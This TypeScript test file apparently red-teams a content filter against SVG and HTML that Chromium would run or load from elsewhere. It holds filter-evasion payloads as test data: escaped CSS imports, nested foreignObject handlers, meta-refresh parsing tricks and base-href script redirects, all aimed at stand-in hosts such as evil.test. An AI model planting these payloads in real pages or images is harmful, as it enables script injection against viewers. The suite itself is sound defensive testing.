// Content red team round 6 for browsers (issue 41): what Chromium runs or loads from elsewhere by rules a reader of
// pages and SVG must apply as it does. CSS `@import` spelled with an escape, behind comments or in CDATA; handlers and
// refreshes in `foreignObject` nested in `foreignObject`; pages in UTF-16 (either byte order mark); meta refreshes
// whose url the refresh steps read after a comma, white space, quotes, fractional seconds, a character reference, a
// backslash or a tab inside the scheme; an XML entity that expands to an xhtml script; a `srcdoc` frame and an
// `<object>` of a scripted SVG inside `foreignObject`; a declarative shadow root; a stylesheet preloaded with an
// `onload`; a `base` that sends a relative script elsewhere. The oracle is Chromium (chromium-oracles.ts): an attack
// is live when a script ran or the page asked for anything off its origin; a control runs nothing and asks for nothing
// elsewhere. Controls are the same shapes made harmless: a `<noscript>` stylesheet import (raw text where script
// runs), SVG symbol reuse through `<use href="#…">`, a same-origin refresh, a UTF-16 page without script, an alternate
// feed link and an installed symbolic icon. Each attack is held under every plausible sending by the shipped profile
// and with every type admitted; each control is allowed under every sending with its type admitted.
import { existsSync, readFileSync } from 'node:fs';
import { afterAll, describe, expect, type TestContext, test } from 'vitest';
import { profileGate } from '../content/consumers/profile-gate.ts';
import { useChromiumOracles } from '../content/redteam/chromium-oracles.ts';
import {
  judgeSendings,
  letThrough,
  refused,
  type Sending,
  sendingsOf,
  shippedGate,
} from '../content/redteam/judge-variants.ts';
import { mustRunRealParts } from '../real-host/host-suite.ts';

const { becomesLive, isLive } = useChromiumOracles();
const ran = "fetch('http://ran.test/')";
const svgNs = 'http://www.w3.org/2000/svg';
const xhtml = 'http://www.w3.org/1999/xhtml';
const b64 = (s: string): string => Buffer.from(s).toString('base64');
const utf16le = (s: string): Buffer => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(s, 'utf16le')]);
const utf16be = (s: string): Buffer => Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(s, 'utf16le').swap16()]);

const svgSendings = sendingsOf('guide://art/logo', ['.svg', ''], ['image/svg+xml', 'text/plain', undefined]);
const pageSendings = sendingsOf(
  'guide://site/page',
  ['.html', ''],
  ['text/html', 'text/plain', 'application/octet-stream', undefined],
);
// a control page is named as the page it is (a text/plain body with no name is the markdown renderers', whose pages
// may hold no refresh: docs/policy-reference.md)
const pageControlSendings = sendingsOf(
  'guide://site/page',
  ['.html'],
  ['text/html', 'text/plain', 'application/octet-stream', undefined],
);
const xmlSendings = sendingsOf(
  'guide://feed/doc',
  ['.xml', ''],
  ['application/xml', 'text/xml', 'text/plain', undefined],
);

// key, name, the type Chromium is served, body, sendings
type Case = readonly [key: string, name: string, served: string, body: string | Buffer, sendings: readonly Sending[]];

const page = (head: string, body = '<p>Notes</p>'): string =>
  `<!doctype html><html><head>${head}</head><body>${body}</body></html>`;

const attacks: Case[] = [
  [
    'svg-import-escaped',
    'an svg style whose @import is spelled with a css escape',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><style>@\\69mport url(http://evil.test/x.css);</style><rect width="4" height="4"/></svg>`,
    svgSendings,
  ],
  [
    'page-import-escaped-space',
    'a page style whose @import escape ends with a space',
    'text/html',
    page(`<style>@\\69 mport 'http://evil.test/x.css';</style>`),
    pageSendings,
  ],
  [
    'svg-import-comments',
    'an svg style @import behind comments, to a scheme-relative url',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><style>/*x*/@import/**/"//evil.test/x.css";</style><rect width="4" height="4"/></svg>`,
    svgSendings,
  ],
  [
    'svg-import-cdata',
    'an svg style @import inside CDATA',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><style><![CDATA[@import "http://evil.test/x.css";]]></style><rect width="4" height="4"/></svg>`,
    svgSendings,
  ],
  [
    'fo-nested-handler',
    'an img handler in a foreignObject nested in another',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><foreignObject width="50" height="50"><svg xmlns="${svgNs}"><foreignObject width="50" height="50"><div xmlns="${xhtml}"><img src="x" onerror="${ran}"/></div></foreignObject></svg></foreignObject></svg>`,
    svgSendings,
  ],
  [
    'fo-nested-refresh',
    'a meta refresh in a foreignObject nested in another',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><foreignObject width="50" height="50"><svg><foreignObject width="50" height="50"><meta xmlns="${xhtml}" http-equiv="refresh" content="0;url=http://evil.test/"/></foreignObject></svg></foreignObject></svg>`,
    svgSendings,
  ],
  [
    'fo-srcdoc',
    'a srcdoc frame in a foreignObject',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><foreignObject width="50" height="50"><iframe xmlns="${xhtml}" srcdoc="&lt;script&gt;${ran}&lt;/script&gt;"/></foreignObject></svg>`,
    svgSendings,
  ],
  [
    'fo-object-svg',
    'an object of a scripted svg data url in a foreignObject',
    'image/svg+xml',
    `<svg xmlns="${svgNs}"><foreignObject width="50" height="50"><object xmlns="${xhtml}" data="data:image/svg+xml;base64,${b64(`<svg xmlns="${svgNs}" onload="${ran}"/>`)}"/></foreignObject></svg>`,
    svgSendings,
  ],
  [
    'utf16le-page',
    'a page in UTF-16LE with its byte order mark',
    'text/html',
    utf16le(page('', `<script>${ran}</script>`)),
    pageSendings,
  ],
  [
    'utf16be-page',
    'a page in UTF-16BE with its byte order mark',
    'text/html',
    utf16be(page('', `<img src="x" onerror="${ran}">`)),
    pageSendings,
  ],
  [
    'refresh-comma',
    'a refresh whose url follows a comma',
    'text/html',
    page('<meta http-equiv="refresh" content="0,http://evil.test/">'),
    pageSendings,
  ],
  [
    'refresh-space',
    'a refresh whose url= follows a space',
    'text/html',
    page('<meta http-equiv="refresh" content="0 url=http://evil.test/">'),
    pageSendings,
  ],
  [
    'refresh-quoted',
    'an upper-case refresh with spaces around = and a quoted url',
    'text/html',
    page(`<meta http-equiv="REFRESH" content="0; URL = 'http://evil.test/'">`),
    pageSendings,
  ],
  [
    'refresh-fraction',
    'a refresh after 0.5. seconds to a scheme-relative url',
    'text/html',
    page('<meta http-equiv="refresh" content="0.5.; url=//evil.test/">'),
    pageSendings,
  ],
  [
    'refresh-reference',
    'a refresh whose = is a character reference',
    'text/html',
    page('<meta http-equiv="refresh" content="0;url&#x3d;http://evil.test/">'),
    pageSendings,
  ],
  [
    'refresh-backslash',
    'a refresh to /\\host (a slash to a special scheme)',
    'text/html',
    page('<meta http-equiv="refresh" content="0;url=/\\evil.test/">'),
    pageSendings,
  ],
  [
    'refresh-tab-scheme',
    'a refresh whose scheme holds a tab',
    'text/html',
    page('<meta http-equiv="refresh" content="0;url=h&#9;ttp://evil.test/">'),
    pageSendings,
  ],
  [
    'xml-entity-script',
    'an xml document whose entity expands to an xhtml script',
    'application/xml',
    `<!DOCTYPE r [<!ENTITY s "<script xmlns='${xhtml}'>${ran}</script>">]><r>&s;</r>`,
    xmlSendings,
  ],
  [
    'shadow-root-handler',
    'an img handler in a declarative shadow root',
    'text/html',
    page('', `<div><template shadowrootmode="open"><img src="x" onerror="${ran}"></template></div>`),
    pageSendings,
  ],
  [
    'preload-style-onload',
    'a stylesheet preloaded from elsewhere with an onload',
    'text/html',
    page(`<link rel="preload" as="style" href="http://evil.test/a.css" onload="this.rel='stylesheet'">`),
    pageSendings,
  ],
  [
    'base-relative-script',
    'a base elsewhere that a relative script src follows',
    'text/html',
    page('<base href="//evil.test/"><script src="a.js"></script>'),
    pageSendings,
  ],
  [
    'alternate-stylesheet',
    'an alternate stylesheet from elsewhere',
    'text/html',
    page('<link rel="alternate stylesheet" title="print" href="http://evil.test/a.css">'),
    pageSendings,
  ],
];

const icon = '/usr/share/icons/Adwaita/scalable/places/folder-symbolic.svg';
const controls: Case[] = [
  [
    'noscript-import',
    'a stylesheet import inside noscript (raw text where script runs)',
    'text/html',
    page('', `<noscript><style>@import "http://evil.test/a.css";</style></noscript>`),
    pageControlSendings,
  ],
  [
    'svg-use-symbol',
    'an svg reusing its own symbol through use href="#…"',
    'image/svg+xml',
    `<svg xmlns="${svgNs}" width="16" height="16"><defs><symbol id="dot"><circle cx="4" cy="4" r="3"/></symbol></defs><use href="#dot"/><use href="#dot" x="8"/></svg>`,
    svgSendings,
  ],
  [
    'refresh-same-origin',
    'a refresh to a relative page after 30 s',
    'text/html',
    page('<meta http-equiv="refresh" content="30; url=next.html">'),
    pageControlSendings,
  ],
  [
    'utf16le-plain-page',
    'a UTF-16LE page without script',
    'text/html',
    utf16le(page('<title>Notes</title>', '<h1>Notes</h1><p>Text.</p>')),
    pageControlSendings,
  ],
  [
    'alternate-feed',
    'an alternate feed link and a canonical link to elsewhere',
    'text/html',
    page(
      '<link rel="alternate" type="application/rss+xml" href="http://feeds.test/rss"><link rel="canonical" href="http://site.test/">',
    ),
    pageControlSendings,
  ],
  ['installed-icon', "Adwaita's folder symbolic icon", 'image/svg+xml', icon, svgSendings],
];

/** Cases that get through at the time of writing. */
const open = new Set<string>([]);

const bodyOf = (body: string | Buffer) => (typeof body === 'string' ? { text: body } : { blob: body });
function controlBody(ctx: TestContext, body: string | Buffer): string | Buffer {
  if (typeof body !== 'string' || !body.startsWith('/usr/')) return body;
  if (!existsSync(body)) {
    if (mustRunRealParts()) throw new Error(`${body} is missing under CI=true`);
    return ctx.skip(`${body} is missing`);
  }
  return readFileSync(body, 'utf8');
}

let slowest = { key: '', ms: 0 };
async function judged(key: string, body: string | Buffer, sendings: readonly Sending[], gate = shippedGate) {
  const before = process.cpuUsage();
  const verdicts = await judgeSendings(bodyOf(body), sendings, gate);
  const used = process.cpuUsage(before);
  const ms = (used.user + used.system) / 1000;
  if (ms > slowest.ms) slowest = { key, ms };
  return verdicts;
}
// every type a control is sent as admitted (text/html and octet-stream are refused by name in the shipped policy)
const everyType = profileGate(undefined, ['text/html', 'application/xml', 'text/xml', 'application/octet-stream']);

describe('content round 6: Chromium runs each attack or loads from elsewhere', () => {
  test.for(attacks.map(([key, name, served, body]) => ({ key, name, served, body })))(
    '$key: $name',
    { timeout: 120_000 },
    async ({ served, body }, ctx) => {
      expect(await becomesLive(ctx, served, body)).toBe(true);
    },
  );
});

describe('content round 6: the shipped profile withholds each attack however it is sent, and so does every type admitted', () => {
  for (const [key, name, , body, sendings] of attacks)
    (open.has(key) ? test.fails : test)(`${key}: ${name}`, { timeout: 60_000 }, async () => {
      expect(letThrough(await judged(key, body, sendings))).toEqual([]);
      const all = await judgeSendings(bodyOf(body), sendings, everyType);
      expect(all.filter((v) => v.effect === 'allow').map((v) => v.sending)).toEqual([]);
    });
});

describe('content round 6: Chromium loads each control inert', () => {
  test.for(controls.map(([key, name, served, body]) => ({ key, name, served, body })))(
    '$key: $name',
    { timeout: 120_000 },
    async ({ served, body }, ctx) => {
      expect(await isLive(ctx, served, controlBody(ctx, body))).toBe(false);
    },
  );
});

describe('content round 6: the shipped profile allows each control however it is sent', () => {
  for (const [key, name, , body, sendings] of controls)
    (open.has(key) ? test.fails : test)(`${key}: ${name}`, async (ctx) => {
      expect(refused(await judged(key, controlBody(ctx, body), sendings, everyType))).toEqual([]);
    });
  afterAll(() => {
    console.log(`content-round6-browser: slowest judgement ${slowest.key} ${slowest.ms.toFixed(0)} ms cpu`);
  });
});
